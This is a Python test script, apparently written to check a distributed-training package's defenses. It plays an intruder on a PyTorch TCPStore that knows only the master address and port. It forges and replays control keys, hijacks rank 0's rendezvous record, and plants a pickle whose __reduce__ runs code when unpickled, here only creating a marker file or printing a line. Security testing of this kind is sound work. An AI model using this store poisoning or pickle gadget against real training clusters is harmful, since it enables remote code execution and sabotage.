"""An outside process that reached a gang's store knowing only MASTER_ADDR and MASTER_PORT:
`python intruder.py ADDR PORT WORLD_SIZE NODES OUT_DIR`. It lists every key, and under every
prefix it finds (the package's keys as they are named today, and as they were named when they
lay under the secret) forges what would steer the gang: an abort, check-ins, a node's done and
failure, ranks' done, a checkpoint, and a gather value of every rank but 0 that is a pickle
with a side effect (it creates OUT_DIR/pwned when unpickled); it replays a genuine value under
the abort key. It also goes for torch's own rendezvous: once the other ranks' process-group records are in
the store it notes which of them show an address in the clear, and puts a copy of one under
the key of rank 0's record, which rank 0 has not written yet (the others read it first), under
the name torch gives it and under the gang's prefix for it. It writes what it saw and did to
OUT_DIR/intruder.json.

OUT_DIR `-` (LOG) is for a node that shares no folder with the test (a remote one): the
intruder then prints its report as one line to its stdout, REPORT followed by the same JSON,
and its pickle, when unpickled, writes the line PWNED to the stdout of the process that
unpickles it (`os.write(1, ...)`, unbuffered) instead of creating a file. Rank 0's stdout
is the intruder's, so both reach the task's log (as `[rank 0] ...`) when they happen.

Test flows call `runpy.run_path(path)["intrude_from"](rank, world size, nodes, out dir)` in
every rank before init_process_group: rank 0 starts it there, before the other ranks can send
their gather values (they wait in init_process_group), with an environment that holds nothing
of the gang's; the other ranks then send theirs late, so that rank 0 reads the forged ones."""

import json
import os
import pickle
import sys
import time
from datetime import timedelta


LOG = "-"  # OUT_DIR: report through stdout, the node's log
REPORT = "intruder report: "  # then the report's JSON, on the same line
PWNED = "the intruder's pickle ran in this process"  # what its pickle writes in LOG mode


class SideEffect:
    """Unpickled, it creates `path`; with `path` LOG, it writes PWNED to fd 1 instead."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        if self.path == LOG:
            return (os.write, (1, (PWNED + "\n").encode()))
        return (open, (self.path, "w"))


def side_effect(out_dir):
    return SideEffect(LOG if out_dir == LOG else os.path.join(out_dir, "pwned"))


def prefixes(keys):
    found = {"mftd/"}
    for key in keys:
        parts = key.split("/")
        if parts[0] == "mftd" and len(parts) > 2:
            found.add("mftd/%s/" % parts[1])
    return sorted(found)


def forge(store, prefix, world_size, nodes, out_dir):
    failure = {"rank": world_size - 1, "node": nodes - 1, "kind": "exception",
               "detected_at": time.time(), "message": "ValueError: forged", "local_rank": 0}
    values = {prefix + "abort": b"1", prefix + "checkpoint": b'{"loaded": null}'}
    for node in range(1, nodes):
        values[prefix + "joined/node%d" % node] = b"1"
        values[prefix + "node/%d/done" % node] = b"1"
        values[prefix + "node/%d/failure" % node] = json.dumps(dict(failure, node=node)).encode()
    for rank in range(1, world_size):
        values[prefix + "joined/rank%d" % rank] = b"1"
        values[prefix + "rank/%d/done" % rank] = b"1"
        values[prefix + "gather/0/%d" % rank] = pickle.dumps(side_effect(out_dir))
    for key, value in values.items():
        store.set(key, value)
    return sorted(values)


LOOPBACK = (b"127.0.0.1", bytes([127, 0, 0, 1]))  # an address as text, and as in a sockaddr


def forge_torchs(store, world_size):
    """Wait (up to 10 s) for the records of ranks 1.. in the store; then a copy of one under
    rank 0's record's keys (torch's name, and the gang's prefix). (keys, keys in the clear)."""
    deadline = time.monotonic() + 10
    while True:
        torch_keys = sorted(k for k in store.list_keys() if not k.startswith("mftd/"))
        records = [k for k in torch_keys if k.endswith("cpu//0/%d" % (world_size - 1))]
        if records or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    clear = [k for k in torch_keys if any(a in store.get(k) for a in LOOPBACK)]
    for record in records:
        genuine = store.get(record)
        for key in {record[:-len(str(world_size - 1))] + "0", "default_pg/0//cpu//0/0"}:
            if not store.check([key]):  # rank 0 has not written it
                store.set(key, genuine)
    return torch_keys, clear


def main(addr, port, world_size, nodes, out_dir):
    from torch.distributed import TCPStore

    store = TCPStore(addr, int(port), None, False, timedelta(seconds=20))
    torch_keys, torch_clear = forge_torchs(store, int(world_size))
    keys = store.list_keys()
    wrote = []
    for prefix in prefixes(keys):
        wrote += forge(store, prefix, int(world_size), int(nodes), out_dir)
    genuine = [k for k in keys if k.startswith("mftd/") and not k.endswith("/gang")]
    if genuine:  # a genuine sealed value, replayed under another key
        store.set(genuine[0].rsplit("/", 1)[0] + "/abort", store.get(genuine[0]))
        store.set("mftd/abort", store.get(genuine[0]))
    store.check(wrote[:1])  # the server has them all (one connection is served in order)
    report = {"keys": keys, "prefixes": prefixes(keys), "wrote": wrote,
              "torch_keys": torch_keys, "torch_clear": torch_clear}
    if out_dir == LOG:
        print(REPORT + json.dumps(report), flush=True)
    else:
        with open(os.path.join(out_dir, "intruder.json"), "w") as f:
            json.dump(report, f)
    print("intruder: listed %d keys, forged %d values under %s"
          % (len(keys), len(wrote), prefixes(keys)), flush=True)


def intrude_from(rank, world_size, nodes, out_dir):
    """On rank 0: start the intruder as a process of its own, given only MASTER_ADDR and
    MASTER_PORT and an environment without the gang's, and wait for it; then leave the watches
    time to look. Every rank then returns; the others after a delay that lets rank 0 wait in
    its first gather first (reading the forged values) when they go straight to it."""
    import subprocess

    if rank != 0:
        return lambda: time.sleep(1.0)
    env = {"PATH": os.environ.get("PATH", ""), "PYTHONPATH": os.pathsep.join(sys.path)}
    subprocess.run([sys.executable, os.path.abspath(__file__), os.environ["MASTER_ADDR"],
                    os.environ["MASTER_PORT"], str(world_size), str(nodes), out_dir],
                   env=env, check=True, timeout=60)
    time.sleep(1.0)
    return lambda: None


if __name__ == "__main__":
    main(*sys.argv[1:])
